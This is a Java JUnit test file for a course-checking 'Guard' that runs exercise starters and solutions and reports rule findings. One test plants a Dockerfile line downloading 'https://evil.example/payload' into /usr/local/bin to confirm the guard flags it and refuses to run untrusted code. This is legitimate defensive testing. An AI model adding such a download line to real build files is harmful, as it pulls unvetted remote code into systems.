package dev.progy.guard;

import dev.progy.guard.rule.GuardRules;

import dev.progy.CourseArchive;
import dev.progy.Progy;
import dev.progy.testkit.Folders;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The Guard runs every starter (it must fail) and every solution (it must pass) through the SDK's runners: here
 * the host runner, on a copy of the sample Python course.
 */
@DisplayName("Running a course's starters and solutions")
class SolutionRunsTest {

    private static final String HELLO = "content/01_basics/01_hello/";

    @TempDir
    Path tmp;
    private Path course;
    private Progy progy;

    @BeforeEach
    void copySampleCourse() throws IOException {
        course = Folders.copy(Path.of("..", "examples", "python-original").toAbsolutePath().normalize(),
                tmp.resolve("course"));
        progy = Progy.builder().build();
    }

    @AfterEach
    void close() {
        progy.close();
    }

    private List<String> found(Path what) {
        GuardReport r = Guard.check(what, GuardOptions.defaults().runningSolutions(progy, Optional.empty()));
        return r.findings().stream().map(f -> f.rule().id() + " " + f.location() + " " + f.message()).toList();
    }

    @Test
    @DisplayName("a course whose starters fail and whose solutions pass has nothing to report, and keeps no progress")
    void sampleCoursePasses() throws IOException {
        assertThat(found(course)).isEmpty();
        try (Stream<Path> left = Files.list(course)) {
            assertThat(left.map(p -> p.getFileName().toString())).doesNotContain(".progy");
        }
    }

    @Test
    @DisplayName("a starter that already passes is an error at the starter")
    void starterPasses() throws IOException {
        Files.copy(course.resolve(HELLO + "solution.py"), course.resolve(HELLO + "exercise.py"),
                StandardCopyOption.REPLACE_EXISTING);

        assertThat(found(course)).singleElement().asString()
                .startsWith("PG-V001 " + HELLO + "exercise.py 01_basics/01_hello's starter passes as shipped");
    }

    @Test
    @DisplayName("a solution that fails is an error that names the failing test")
    void solutionFails() throws IOException {
        Files.writeString(course.resolve(HELLO + "solution.py"), "def greet(name):\n    return 'Hello, ' + name\n");

        assertThat(found(course)).singleElement().asString()
                .startsWith("PG-V002 " + HELLO + "solution.py 01_basics/01_hello's solution fails: test 'greets the world' — greet('world') should be 'Hello, world!' but was 'Hello, world'");
    }

    @Test
    @DisplayName("a solution that never ends is reported as out of time, not as a plain failure")
    void solutionHangs() throws IOException {
        Files.writeString(course.resolve(HELLO + "solution.py"), "import time\ntime.sleep(600)\n");
        Files.writeString(course.resolve("content/01_basics/info.toml"), Files.readString(
                course.resolve("content/01_basics/info.toml")).replace("xp = 10,", "xp = 10, timeout_seconds = 2,"));

        assertThat(found(course)).singleElement().asString()
                .startsWith("PG-V002 " + HELLO + "solution.py 01_basics/01_hello's solution ran out of time");
    }

    @Test
    @DisplayName("an exercise without a solution is a warning, without running anything")
    void missingSolution() throws IOException {
        Files.delete(course.resolve(HELLO + "solution.py"));

        GuardReport r = Guard.check(course);
        assertThat(r.passed()).isTrue();
        assertThat(r.findings()).extracting(f -> f.rule().id() + " " + f.location())
                .containsExactly("PG-V003 " + HELLO + "exercise.py");
    }

    @Test
    @DisplayName("an archive's solutions run too, from a workspace made as a student's is")
    void archive() throws IOException {
        Files.writeString(course.resolve(HELLO + "solution.py"), "def greet(name):\n    return ''\n");
        Path archive = tmp.resolve("course.progy");
        CourseArchive.pack(course, archive);

        assertThat(found(archive)).singleElement().asString().startsWith("PG-V002 " + HELLO + "solution.py");
    }

    @Test
    @DisplayName("a course with an error is never run: its code is not trusted")
    void unsafeCourseIsNotRun() throws IOException {
        Path marker = tmp.resolve("ran");
        // the starter would leave a marker if it ran; the Dockerfile's download of a URL is an error
        Files.writeString(course.resolve(HELLO + "exercise.py"), "open(" + pythonString(marker) + ", 'w').close()\n"
                + Files.readString(course.resolve(HELLO + "exercise.py")));
        Files.writeString(course.resolve("Dockerfile"), Files.readString(course.resolve("Dockerfile"))
                .replaceFirst("\n", "\nADD https://evil.example/payload /usr/local/bin/\n"));

        assertThat(found(course)).anySatisfy(f -> assertThat(f).startsWith("PG-D002 Dockerfile:2"))
                .anySatisfy(f -> assertThat(f).startsWith("PG-V004 . starters and solutions were not run"));
        assertThat(marker).doesNotExist();
    }

    @Test
    @DisplayName("a runner the course does not have is reported, and nothing runs")
    void unknownRunner() {
        GuardReport r = Guard.check(course, GuardOptions.defaults().runningSolutions(progy, Optional.of("ruby")));
        assertThat(r.findings()).singleElement().satisfies(f -> {
            assertThat(f.rule()).isEqualTo(GuardRules.NOT_RUN);
            assertThat(f.message()).contains("the course has no runner 'ruby'");
            assertThat(f.fix()).contains("python", "container");
        });
    }

    private static String pythonString(Path p) {
        return "'" + p.toString().replace("\\", "\\\\").replace("'", "\\'") + "'";
    }
}
